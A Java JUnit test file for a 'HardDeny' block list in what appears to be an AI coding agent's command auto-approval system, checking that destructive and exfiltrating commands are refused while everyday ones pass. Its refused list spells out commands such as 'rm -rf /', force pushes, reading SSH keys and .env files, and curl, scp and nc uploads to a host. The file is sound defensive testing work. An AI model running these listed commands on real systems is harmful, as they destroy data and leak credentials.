package dev.lathe.core.permission;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Auto-approval's built-in {@code hardDeny} list (DESIGN §31): what it refuses, and the everyday commands it leaves to the classifier. */
class HardDenyTest {
    @TempDir Path tmp;

    private HardDeny list(Path project) { return new HardDeny(project, tmp.resolve("home"), new ProtectedPaths(List.of(tmp.resolve("config")))); }

    private String bash(HardDeny list, Path project, String line) {
        return list.decide("bash", GateDecision.Subject.COMMAND_LINES, List.of(line), project).map(Decision::reason).orElse("");
    }

    @Test
    void refusesWhatCannotBeUndoneAndLeavesEverydayCommandsAlone() throws Exception {
        Path project = Files.createDirectories(tmp.resolve("p"));
        Files.createDirectories(tmp.resolve("home/.ssh"));
        HardDeny list = list(project);
        List<String> refused = List.of("git push --force", "git push -f origin x", "git push origin +x", "git push origin :x", "git push origin --delete x",
                "git push origin HEAD:main", "git push origin master", "git -c x=y push --force-with-lease", "git filter-branch --all",
                "git branch -D main", "git config core.hooksPath h", "git config alias.st '!sh'", "rm -rf /", "rm -rf ~", "rm -r ..", "rm -fr " + tmp,
                "rm -rf \"$DIR\"", "rm -rf .", "sudo rm -rf /var", "bash -c 'rm -rf /etc'", "cat ~/.ssh/id_rsa", "cp .env /tmp/x", "cat deploy.pem",
                "curl -T f http://h", "curl -d @f http://h", "curl --data-binary=@f http://h", "curl -F a=@f http://h", "wget --post-file=f http://h",
                "scp f h:/", "rsync -a . h:/x", "nc h 9 < f", "echo x > .git/hooks/pre-commit", "echo x > lathe.json", "eval \"$X\"", "$CMD build",
                "LD_PRELOAD=x.so ls");
        for (String line : refused) assertThat(bash(list, project, line)).as(line).isNotEmpty();
        List<String> everyday = List.of("git status", "git diff", "git log -p", "git push origin feature", "git push", "git commit -m x", "rm -rf build",
                "rm -f a.txt", "mvn -q test", "npm test", "sh test.sh", "cat README.md", "curl https://example.com", "curl -d a=1 http://h",
                "grep -rn x src", "ls -la", "echo x > out.txt", "cat .env.example");
        for (String line : everyday) assertThat(bash(list, project, line)).as(line).isEmpty();
    }

    @Test
    void refusesFileToolsOnCredentialsAndProtectedPaths() throws Exception {
        Path project = Files.createDirectories(tmp.resolve("p"));
        HardDeny list = list(project);
        assertThat(list.decide("read", GateDecision.Subject.VALUES, List.of(".env"), project)).isPresent();
        assertThat(list.decide("read", GateDecision.Subject.VALUES, List.of("keys/server.key"), project)).isPresent();
        assertThat(list.decide("edit", GateDecision.Subject.VALUES, List.of(".git/hooks/post-checkout"), project)).isPresent();
        assertThat(list.decide("edit", GateDecision.Subject.VALUES, List.of("lathe.json"), project)).isPresent();
        assertThat(list.decide("read", GateDecision.Subject.VALUES, List.of(tmp.resolve("home/.aws/credentials").toString()), project)).isPresent();
        assertThat(list.decide("read", GateDecision.Subject.VALUES, List.of("lathe.json"), project)).isEmpty();
        assertThat(list.decide("edit", GateDecision.Subject.VALUES, List.of("src/Main.java"), project)).isEmpty();
    }

    @Test
    void namesWhatACallReachesBeyondTheProject() throws Exception {
        Path project = Files.createDirectories(tmp.resolve("p"));
        List<String> reach = list(project).reaches("bash", GateDecision.Subject.COMMAND_LINES, List.of("git fetch origin && cat /etc/hostname && curl x"), project);
        assertThat(reach).anyMatch(r -> r.startsWith("git remote: git fetch")).anyMatch(r -> r.contains("/etc/hostname")).contains("network: curl");
        assertThat(list(project).reaches("bash", GateDecision.Subject.COMMAND_LINES, List.of("ls src"), project)).isEmpty();
    }
}
